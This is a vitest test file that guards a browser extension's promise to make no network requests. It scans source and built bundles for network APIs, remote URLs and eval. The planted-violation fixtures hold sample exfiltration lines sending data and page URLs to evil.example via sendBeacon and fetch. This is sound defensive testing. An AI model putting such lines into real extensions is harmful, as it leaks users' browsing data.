// "Nothing leaves the device", as a build guard: no extension code may reference a network API, a
// remote URL or dynamic code. Scans
//   1. the source of every extension context: the folders the extension is made of, plus every
//      module an entrypoint reaches through relative imports (so a new folder is not missed), and
//   2. the built bundles in .output/chrome-mv3 and .output/firefox-mv2 (which include the
//      libraries), built beforehand by `npx wxt build && npx wxt build -b firefox` (`npm test` does).
// JavaScript and TypeScript are parsed (TypeScript's parser): comments never count, and a name in a
// string (`globalThis['fetch']`) counts like the name itself. HTML and CSS are searched as text.
// Every allowance names the code it comes from and why it cannot reach the network; an allowance no
// longer needed fails the test, and the scanner is shown to catch planted violations.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import ts from 'typescript';
import { afterAll, describe, expect, test } from 'vitest';
import { TEAM_ONLY_MODULES } from '../../wxt.config.ts';

const REPO_ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const BUILDS = [
  { name: 'chrome-mv3', dir: path.join(REPO_ROOT, '.output/chrome-mv3'), command: 'npx wxt build' },
  { name: 'firefox-mv2', dir: path.join(REPO_ROOT, '.output/firefox-mv2'), command: 'npx wxt build -b firefox' },
];

/** The folders whose code runs in an extension context (background, content script, sidebar, options). */
const SOURCE_DIRS = ['entrypoints', 'background', 'content', 'components', 'platform', 'messaging', 'extraction', 'engine', 'store'];

/** Names that open a connection, send data, or load remote code. */
const NETWORK_APIS = new Set([
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'WebSocketStream',
  'WebTransport',
  'sendBeacon',
  'EventSource',
  'importScripts',
  'RTCPeerConnection',
  'webkitRTCPeerConnection',
  // browser APIs that make the browser request a URL on the extension's behalf
  'setUninstallURL',
  'launchWebAuthFlow',
]);
/** Names that run strings as code (the CSP forbids it; the scan makes sure nothing tries). */
const DYNAMIC_CODE = new Set(['eval']);
const URL_PATTERN = /\b(?:https?|wss?|ftp):\/\/[^\s"'`<>()\\]*/gi;

export interface Finding {
  /** path relative to the scanned root, with forward slashes */
  file: string;
  line: number;
  kind: 'network-api' | 'remote-url' | 'dynamic-code' | 'remote-code';
  what: string;
  /** the code around it (for allowances and for the failure message) */
  context: string;
}

interface Allowance {
  kind: Finding['kind'];
  what: string | RegExp;
  /** where it may appear: a source path or a built file, relative, forward slashes */
  file: RegExp;
  /** something that identifies the library code around it */
  context?: RegExp;
  why: string;
}

const ALLOWED: Allowance[] = [
  {
    kind: 'remote-url',
    what: /^https?:\/\/\*\/\*$/,
    file: /^(entrypoints\/content\.ts|content-scripts\/content\.js|manifest\.json)$/,
    why: 'The content script\'s match patterns ("http://*/*", "https://*/*"): which pages it runs on, not an address. WXT writes them into the manifest and content.js.',
  },
  {
    kind: 'remote-url',
    what: /^http:\/\/www\.w3\.org\/(2000\/svg|1999\/xhtml|1998\/Math\/MathML)$/,
    file: /^chunks\/[\w-]+\.js$/,
    context: /createElementNS|foreignObject|xlink/,
    why: "XML namespace names in Preact's renderer (createElementNS for <svg> and <math>). A namespace is an identifier; nothing requests it.",
  },
  {
    kind: 'network-api',
    what: 'fetch',
    file: /^chunks\/[\w-]+\.js$/,
    context: /modulepreload/,
    why:
      "Vite's modulepreload polyfill, put before the extension pages' code: in a browser without <link rel=modulepreload> it fetches the page's own " +
      "modulepreload links (the extension's chunks, same origin). Chrome and Firefox support modulepreload, so it returns first; and the pages' CSP (connect-src 'none') would block it.",
  },
  {
    kind: 'remote-url',
    what: /^(https:\/\/github\.com\/wxt-dev\/wxt\/issues\/371|https:\/\/wxt\.dev\/guide\/go-further\/testing\.html)$/,
    file: /^(chunks\/[\w-]+\.js|content-scripts\/content\.js|background\.js)$/,
    context: /must be loaded in a web extension environment/,
    why: "Links in the text of an error WXT's storage (wxt/utils/storage, used by settings/storage.ts: the pages and content script read the settings, the background watches them) throws when there is no extension API: words in a message, never requested.",
  },
];

// ------------------------------------------------------------------------------------------------
// the scanner
// ------------------------------------------------------------------------------------------------

function lineOf(text: string, offset: number): number {
  let line = 1;
  for (let i = 0; i < offset && i < text.length; i++) if (text.charCodeAt(i) === 10) line++;
  return line;
}

function around(text: string, start: number, end: number, radius = 600): string {
  return text.slice(Math.max(0, start - radius), Math.min(text.length, end + radius));
}

function urlFindings(file: string, text: string, value: string, start: number, end: number): Finding[] {
  return [...value.matchAll(URL_PATTERN)].map((m) => ({ file, line: lineOf(text, start), kind: 'remote-url' as const, what: m[0], context: around(text, start, end) }));
}

function scriptKind(file: string): ts.ScriptKind {
  if (file.endsWith('.tsx')) return ts.ScriptKind.TSX;
  if (file.endsWith('.ts') || file.endsWith('.mts')) return ts.ScriptKind.TS;
  if (file.endsWith('.json')) return ts.ScriptKind.JSON;
  return ts.ScriptKind.JS;
}

/** Network APIs, remote URLs and eval in JavaScript, TypeScript or JSON, by syntax tree. */
export function scanScript(file: string, text: string): Finding[] {
  const source = ts.createSourceFile(file, text, ts.ScriptTarget.Latest, false, scriptKind(file));
  const findings: Finding[] = [];
  const add = (node: ts.Node, kind: Finding['kind'], what: string) => {
    const start = node.getStart(source);
    findings.push({ file, line: lineOf(text, start), kind, what, context: around(text, start, node.getEnd()) });
  };
  const visit = (node: ts.Node): void => {
    if (ts.isIdentifier(node) || ts.isPrivateIdentifier(node)) {
      const name = node.text;
      if (NETWORK_APIS.has(name)) add(node, 'network-api', name);
      if (DYNAMIC_CODE.has(name)) add(node, 'dynamic-code', name);
    } else if (ts.isStringLiteral(node) || ts.isNoSubstitutionTemplateLiteral(node) || ts.isTemplateHead(node) || ts.isTemplateMiddle(node) || ts.isTemplateTail(node) || ts.isJsxText(node)) {
      const value = node.text;
      // a name reached through a string: globalThis['fetch'], Reflect.get(navigator, 'sendBeacon')
      if (NETWORK_APIS.has(value.trim())) add(node, 'network-api', value.trim());
      if (DYNAMIC_CODE.has(value.trim())) add(node, 'dynamic-code', value.trim());
      findings.push(...urlFindings(file, text, value, node.getStart(source), node.getEnd()));
    } else if ((ts.isNewExpression(node) || ts.isCallExpression(node)) && ts.isIdentifier(node.expression) && node.expression.text === 'Function') {
      add(node, 'dynamic-code', 'Function constructor');
    } else if (ts.isJsxAttribute(node) && ts.isIdentifier(node.name) && node.name.text === 'ping') {
      // <a ping="…">: the browser POSTs to those URLs when the link is followed
      add(node, 'network-api', 'ping attribute');
    }
    ts.forEachChild(node, visit);
  };
  visit(source);
  return findings;
}

/** Remote URLs and remote or inline scripts in HTML; remote URLs (url(), @import) in CSS. */
export function scanMarkup(file: string, text: string): Finding[] {
  const findings: Finding[] = [];
  for (const m of text.matchAll(URL_PATTERN)) {
    findings.push({ file, line: lineOf(text, m.index), kind: 'remote-url', what: m[0], context: around(text, m.index, m.index + m[0].length) });
  }
  if (file.endsWith('.html')) {
    for (const m of text.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)) {
      const attrs = m[1] ?? '';
      const body = m[2] ?? '';
      const src = /\bsrc\s*=\s*["']?([^"'\s>]+)/i.exec(attrs)?.[1];
      if (src === undefined && body.trim()) findings.push({ file, line: lineOf(text, m.index), kind: 'remote-code', what: 'inline <script>', context: m[0].slice(0, 300) });
      else if (src !== undefined && /^(?:[a-z][\w+.-]*:|\/\/)/i.test(src)) findings.push({ file, line: lineOf(text, m.index), kind: 'remote-code', what: `<script src="${src}">`, context: m[0].slice(0, 300) });
      if (body.trim()) findings.push(...scanScript(`${file}#inline-script`, body));
    }
    for (const m of text.matchAll(/\son[a-z]+\s*=\s*["'][^"']*["']/gi)) findings.push({ file, line: lineOf(text, m.index), kind: 'remote-code', what: `inline handler${m[0]}`, context: m[0] });
  }
  return findings;
}

export function scanFile(root: string, absolute: string): Finding[] {
  const file = path.relative(root, absolute).split(path.sep).join('/');
  const text = fs.readFileSync(absolute, 'utf8');
  if (/\.(html?|css)$/i.test(absolute)) return scanMarkup(file, text);
  if (/\.(m?[jt]sx?|json)$/i.test(absolute)) return scanScript(file, text);
  return [];
}

export function isAllowed(finding: Finding, allowed: readonly Allowance[] = ALLOWED): Allowance | undefined {
  return allowed.find(
    (a) =>
      a.kind === finding.kind &&
      (typeof a.what === 'string' ? a.what === finding.what : a.what.test(finding.what)) &&
      a.file.test(finding.file) &&
      (!a.context || a.context.test(finding.context)),
  );
}

function walkFiles(dir: string, accept: (file: string) => boolean): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((e) => e.isFile())
    .map((e) => path.join(e.parentPath, e.name))
    .filter(accept)
    .sort();
}

const isSource = (f: string) => /\.(tsx?|mts|m?js|css|html|json)$/.test(f) && !/\.(test|spec)\.tsx?$/.test(f) && !f.endsWith('.d.ts');

/** Every repository file the entrypoints reach through relative imports (and <script src> in their HTML). */
export function reachableModules(entryFiles: readonly string[]): string[] {
  const seen = new Set<string>();
  const queue = [...entryFiles];
  const resolve = (from: string, specifier: string): string | null => {
    if (!specifier.startsWith('.')) return null; // a package: covered by the bundle scan
    const base = path.resolve(path.dirname(from), specifier);
    for (const candidate of [base, `${base}.ts`, `${base}.tsx`, `${base}.js`, path.join(base, 'index.ts'), path.join(base, 'index.tsx')]) {
      if (fs.existsSync(candidate) && fs.statSync(candidate).isFile()) return candidate;
    }
    return null;
  };
  while (queue.length) {
    const file = queue.pop()!;
    if (seen.has(file)) continue;
    seen.add(file);
    const text = fs.readFileSync(file, 'utf8');
    const specifiers: string[] = [];
    if (file.endsWith('.html')) {
      for (const m of text.matchAll(/<(?:script|link)\b[^>]*?\b(?:src|href)\s*=\s*["']([^"']+)["']/gi)) specifiers.push(m[1]!);
    } else if (/\.(m?[jt]sx?)$/.test(file)) {
      const source = ts.createSourceFile(file, text, ts.ScriptTarget.Latest, false, scriptKind(file));
      const visit = (node: ts.Node): void => {
        if ((ts.isImportDeclaration(node) || ts.isExportDeclaration(node)) && node.moduleSpecifier && ts.isStringLiteral(node.moduleSpecifier)) specifiers.push(node.moduleSpecifier.text);
        if (ts.isCallExpression(node) && node.expression.kind === ts.SyntaxKind.ImportKeyword && node.arguments[0] && ts.isStringLiteral(node.arguments[0])) specifiers.push(node.arguments[0].text);
        ts.forEachChild(node, visit);
      };
      visit(source);
    }
    for (const s of specifiers) {
      const resolved = resolve(file, s);
      // the public build's module graph: team-only modules are replaced by their stand-ins (wxt.config.ts)
      const standIn = resolved ? TEAM_ONLY_MODULES[path.relative(REPO_ROOT, resolved)] : undefined;
      const target = standIn ? path.join(REPO_ROOT, standIn) : resolved;
      if (target && !seen.has(target)) queue.push(target);
    }
  }
  return [...seen].sort();
}

const describeFinding = (f: Finding) => `${f.file}:${f.line} ${f.kind} ${JSON.stringify(f.what)}\n    …${f.context.replace(/\s+/g, ' ').slice(0, 240)}…`;

function explain(findings: readonly Finding[]): string {
  return (
    `${findings.length} reference(s) to the network, a remote URL or dynamic code in extension code:\n` +
    findings.map(describeFinding).join('\n') +
    '\nSidelight makes no network request (README, "Privacy and permissions"). If this is library code that cannot reach the network, ' +
    'add an allowance to ALLOWED in test/unit/no-network.test.ts naming the code and why.'
  );
}

// ------------------------------------------------------------------------------------------------
// the scans
// ------------------------------------------------------------------------------------------------

const used = new Set<Allowance>();
function violations(findings: readonly Finding[]): Finding[] {
  return findings.filter((f) => {
    const allowance = isAllowed(f);
    if (allowance) used.add(allowance);
    return !allowance;
  });
}

let sourceFileList: string[] | null = null;
function sourceFiles(): string[] {
  if (sourceFileList) return sourceFileList;
  // team-only modules are not in the public build (a team build may reach its server: test/unit/team-build.test.ts)
  const inDirs = SOURCE_DIRS.flatMap((d) => walkFiles(path.join(REPO_ROOT, d), isSource)).filter((f) => !(path.relative(REPO_ROOT, f) in TEAM_ONLY_MODULES));
  const entries = walkFiles(path.join(REPO_ROOT, 'entrypoints'), (f) => /\.(tsx?|html)$/.test(f));
  sourceFileList = [...new Set([...inDirs, ...reachableModules(entries)])].sort();
  return sourceFileList;
}

const scans = new Map<string, Finding[]>();
/** Findings of every file under `root` (scanned once per run). */
function scanAll(root: string, files: readonly string[]): Finding[] {
  const key = root;
  if (!scans.has(key)) scans.set(key, files.flatMap((f) => scanFile(root, f)));
  return scans.get(key)!;
}

function builtFiles(dir: string, command: string): string[] {
  if (!fs.existsSync(path.join(dir, 'manifest.json'))) {
    throw new Error(`No build in ${dir}: build it first (${command}; \`npm test\` builds both browsers before the unit tests).`);
  }
  return walkFiles(dir, (f) => /\.(m?js|html|css|json)$/.test(f));
}

describe('no network: the source of every extension context', () => {
  test('the scan covers every module an entrypoint reaches', () => {
    const files = sourceFiles().map((f) => path.relative(REPO_ROOT, f));
    for (const d of SOURCE_DIRS) expect(files.some((f) => f.startsWith(`${d}/`)), `no file scanned in ${d}/`).toBe(true);
    // the entrypoints reach the corpus data and the engine through relative imports
    expect(files).toContain('entrypoints/background.ts');
    expect(files).toContain('engine/schemas.ts');
  });

  test('references no network API, remote URL or eval', () => {
    const bad = violations(scanAll(REPO_ROOT, sourceFiles()));
    expect(bad, explain(bad)).toEqual([]);
  });
});

describe.each(BUILDS)('no network: the built extension in .output/$name', ({ dir, command }) => {
  test('references no network API, remote URL, remote or inline script, or eval', () => {
    const files = builtFiles(dir, command);
    expect(files.some((f) => f.endsWith('background.js'))).toBe(true);
    expect(files.some((f) => f.endsWith('content.js'))).toBe(true);
    const bad = violations(scanAll(dir, files));
    expect(bad, explain(bad)).toEqual([]);
  });
});

describe('no network: the allowances', () => {
  test('each allowance is still needed (runs after the scans)', () => {
    // scan again here so this test does not depend on the order vitest runs the others in
    const all = [scanAll(REPO_ROOT, sourceFiles()), ...BUILDS.map((b) => scanAll(b.dir, builtFiles(b.dir, b.command)))].flat();
    violations(all);
    const unused = ALLOWED.filter((a) => !used.has(a));
    expect(
      unused.map((a) => `${a.kind} ${String(a.what)} in ${String(a.file)}`),
      'allowances no scanned file needs any more: remove them from ALLOWED',
    ).toEqual([]);
  });
});

// ------------------------------------------------------------------------------------------------
// the scanner catches what it must (and nothing in comments)
// ------------------------------------------------------------------------------------------------

const PLANTED_TS = `// fetch("https://in-a-comment.example/") is a comment: not a finding
/* new WebSocket('wss://also-a-comment.example') */
const isWeb = (u: string) => /^https?:\\/\\//.test(u); // a regular expression is a pattern, not an address
export async function leak(data: string) {
  await fetch('/collect', { method: 'POST', body: data });
  const f = globalThis['fetch'];
  const x = new XMLHttpRequest();
  const ws = new WebSocket('wss://evil.example/socket');
  navigator.sendBeacon('https://evil.example/beacon', data);
  const es = new EventSource('/events');
  importScripts('https://cdn.example/lib.js');
  const host = 'tracker.example';
  const u = \`https://\${host}/pixel\`;
  eval('1 + 1');
  const g = new Function('return 1');
  chrome.runtime.setUninstallURL('https://evil.example/bye');
  return [isWeb, f, x, ws, es, u, g];
}
`;

const PLANTED_TSX = `export const Link = () => <a href="https://evil.example/" ping="/track">see https://evil.example/text</a>;\n`;
const PLANTED_HTML = `<!doctype html><html><head><script src="https://cdn.example/x.js"></script><script>fetch('/x')</script>
<link rel="stylesheet" href="https://fonts.example/css"></head><body onload="go()"><div id="app"></div><script type="module" src="./main.tsx"></script></body></html>`;
const PLANTED_CSS = `@import url(https://fonts.example/font.css);\n.a{background:url("https://img.example/a.png")}\n.b{background:url(/assets/ok.png)}\n`;

describe('no network: the scanner', () => {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'sidelight-no-network-'));
  afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

  test('finds every planted network API, remote URL and eval, and nothing in comments or regular expressions', () => {
    const found = scanScript('planted.ts', PLANTED_TS);
    const what = found.map((f) => `${f.line} ${f.kind} ${f.what}`);
    expect(what).toEqual([
      '5 network-api fetch',
      '6 network-api fetch',
      '7 network-api XMLHttpRequest',
      '8 network-api WebSocket',
      '8 remote-url wss://evil.example/socket',
      '9 network-api sendBeacon',
      '9 remote-url https://evil.example/beacon',
      '10 network-api EventSource',
      '11 network-api importScripts',
      '11 remote-url https://cdn.example/lib.js',
      '13 remote-url https://',
      '14 dynamic-code eval',
      '15 dynamic-code Function constructor',
      '16 network-api setUninstallURL',
      '16 remote-url https://evil.example/bye',
    ]);
    expect(found.every((f) => !isAllowed(f)), 'no planted finding is allowed').toBe(true);
  });

  test('finds remote URLs, ping, remote and inline scripts in JSX, HTML and CSS', () => {
    expect(scanScript('planted.tsx', PLANTED_TSX).map((f) => `${f.kind} ${f.what}`)).toEqual([
      'remote-url https://evil.example/',
      'network-api ping attribute',
      'remote-url https://evil.example/text',
    ]);
    expect(scanMarkup('planted.html', PLANTED_HTML).map((f) => `${f.kind} ${f.what}`)).toEqual([
      'remote-url https://cdn.example/x.js',
      'remote-url https://fonts.example/css',
      'remote-code <script src="https://cdn.example/x.js">',
      'remote-code inline <script>',
      'network-api fetch',
      'remote-code inline handler onload="go()"',
    ]);
    expect(scanMarkup('planted.css', PLANTED_CSS).map((f) => f.what)).toEqual(['https://fonts.example/font.css', 'https://img.example/a.png']);
  });

  test.each(BUILDS)('a violation planted in a copy of the $name build fails the scan', ({ dir, command }) => {
    builtFiles(dir, command);
    const copy = path.join(tmp, path.basename(dir));
    fs.cpSync(dir, copy, { recursive: true });
    const clean = walkFiles(copy, (f) => /\.(m?js|html|css|json)$/.test(f)).flatMap((f) => scanFile(copy, f));
    expect(clean.filter((f) => !isAllowed(f)), 'the copy is clean before planting').toEqual([]);
    // minified, as a bundler would emit it: a beacon in the background and a fetch in the content script
    fs.appendFileSync(path.join(copy, 'background.js'), ';navigator.sendBeacon("https://evil.example/b",JSON.stringify({u:location.href}));');
    fs.appendFileSync(path.join(copy, 'content-scripts/content.js'), ';(()=>{const t=document.title;window["fetch"]("https://evil.example/c?t="+t)})();');
    const planted = walkFiles(copy, (f) => /\.(m?js|html|css|json)$/.test(f))
      .flatMap((f) => scanFile(copy, f))
      .filter((f) => !isAllowed(f))
      .map((f) => `${f.file} ${f.kind} ${f.what}`);
    expect(planted).toEqual([
      'background.js network-api sendBeacon',
      'background.js remote-url https://evil.example/b',
      'content-scripts/content.js network-api fetch',
      'content-scripts/content.js remote-url https://evil.example/c?t=',
    ]);
  });
});
